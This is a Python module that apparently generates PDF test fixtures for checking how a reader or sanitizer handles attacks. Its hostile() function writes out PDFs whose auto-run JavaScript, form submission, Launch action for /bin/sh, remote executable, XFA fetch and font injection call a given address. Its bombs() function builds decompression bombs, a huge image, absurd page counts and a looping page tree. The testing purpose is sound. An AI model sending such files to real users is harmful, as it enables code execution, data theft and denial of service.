"""PDFs: an honest one, and those that somebody would send to harm a reader."""

from __future__ import annotations

import zlib
from collections.abc import Sequence


def pdf(objects: Sequence[str | bytes], root: str = "") -> bytes:
    """Objects by their number, the first the catalogue; with a true table of where they are."""
    bodies = [one.encode() if isinstance(one, str) else one for one in objects]
    if root:
        bodies[0] = bodies[0][:-2] + root.encode() + b">>"
    out, places = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", []
    for number, body in enumerate(bodies, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(bodies) + 1
    tail = b"trailer<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF\n" % (size, len(out))
    return out + b"xref\n0 %d\n0000000000 65535 f \n" % size + table + tail


def stream(data: bytes, more: str = "") -> bytes:
    return b"<<%b/Length %d>>stream\n%b\nendstream" % (more.encode(), len(data), data)


def document(
    words: str = "Hello, word-48213.",
    pages: int = 1,
    size: str = "0 0 300 200",
    root: str = "",
    more: Sequence[str] = (),
) -> bytes:
    """`more`: objects from number 6 on; a page's annotations are the sixth, if it is there."""
    text = stream(f"0.8 0.1 0.1 rg 20 20 100 60 re f 0 g BT /F 24 Tf 20 150 Td ({words}) Tj ET".encode())
    annotations = "/Annots 6 0 R" if more else ""
    page = f"<</Type/Page/Parent 2 0 R/MediaBox[{size}]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>{annotations}>>"
    return pdf(
        [
            "<</Type/Catalog/Pages 2 0 R>>",
            f"<</Type/Pages/Count {pages}/Kids[{'3 0 R ' * pages}]>>",
            page,
            text,
            "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
            *more,
        ],
        root,
    )


def hostile(call: str) -> dict[str, bytes]:
    """`call` is an address that nobody may ever call."""
    js = f"<</S/JavaScript/JS(app.launchURL\\('{call}/js'\\);this.submitForm\\('{call}/f'\\))>>"
    acts = [
        f"<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A<</S/URI/URI({call}/uri)>>>>",
        f"<</Type/Annot/Subtype/Widget/FT/Btn/T(b)/Rect[0 0 300 200]/A{js}/AA<</E{js}/PO{js}>>>>",
        "<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A<</S/Launch/F(/bin/sh)/NewWindow true>>>>",
        f"<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A<</S/GoToR/F({call}/r.pdf)/D[0/Fit]>>>>",
    ]
    embedded = (
        f"/Names<</JavaScript<</Names[(a){js}]>>/EmbeddedFiles<</Names[(x.exe)<</Type/Filespec/F({call}/x.exe)>>]>>>>"
    )
    xfa = f'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script>fetch("{call}/xfa")</script></template></xdp:xdp>'
    font = "<</Type/Font/Subtype/Type1/BaseFont/Evil/FontMatrix[1 0 0 1 0 (0\\); fetch('" + call + "/m'\\)//)]>>"
    return {
        "acts.pdf": document(root=f"/OpenAction{js}/AA<</WC{js}>>{embedded}", more=[f"[{''.join(acts)}]"]),
        "opens.pdf": document(root=f"/OpenAction<</S/URI/URI({call}/open)>>"),
        "form.pdf": document(root=f"/AcroForm<</XFA({xfa})/Fields[]>>"),
        "font.pdf": document().replace(b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>", font.encode()),
        "outside.pdf": document().replace(b"/Length ", f"/F({call}/stream)/Length ".encode()),
    }


def bombs() -> dict[str, bytes]:
    """Small files that ask for much."""
    once = zlib.compressobj(9)
    squeezed = zlib.compress(
        b"".join([*(once.compress(b"0 0 1 1 re f " * 1_000_000) for _ in range(80)), once.flush()])
    )
    picture = "/Type/XObject/Subtype/Image/ColorSpace/DeviceRGB/Filter/FlateDecode"
    picture += "/Width 100000/Height 100000/BitsPerComponent 8"

    def drawn(content: bytes, packed: str) -> bytes:
        page = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<<>>>>"
        pages = ["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Count 1/Kids[3 0 R]>>"]
        return pdf([*pages, page, stream(content, f"/Filter{packed}")])

    return {
        "giant.pdf": document(size="0 0 14400000 14400000"),
        "pages.pdf": document(pages=20_000),
        "many.pdf": document().replace(b"/Count 1/", b"/Count 2147483647/"),
        "squeezed.pdf": drawn(squeezed, "[/FlateDecode/FlateDecode]"),
        "strokes.pdf": drawn(zlib.compress(b"0 0 1 1 re f " * 5_000_000), "/FlateDecode"),
        "idle.pdf": drawn(zlib.compress(b"BX " * 40_000_000), "/FlateDecode"),  # says nothing, at length
        "picture.pdf": pdf(
            [
                "<</Type/Catalog/Pages 2 0 R>>",
                "<</Type/Pages/Count 1/Kids[3 0 R]>>",
                "<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>>>",
                stream(b"300 0 0 200 0 0 cm /I Do"),
                stream(zlib.compress(bytes(300_000_000)), picture),
            ]
        ),
        "loop.pdf": document().replace(b"/Kids[3 0 R ]", b"/Kids[2 0 R ]"),
    }
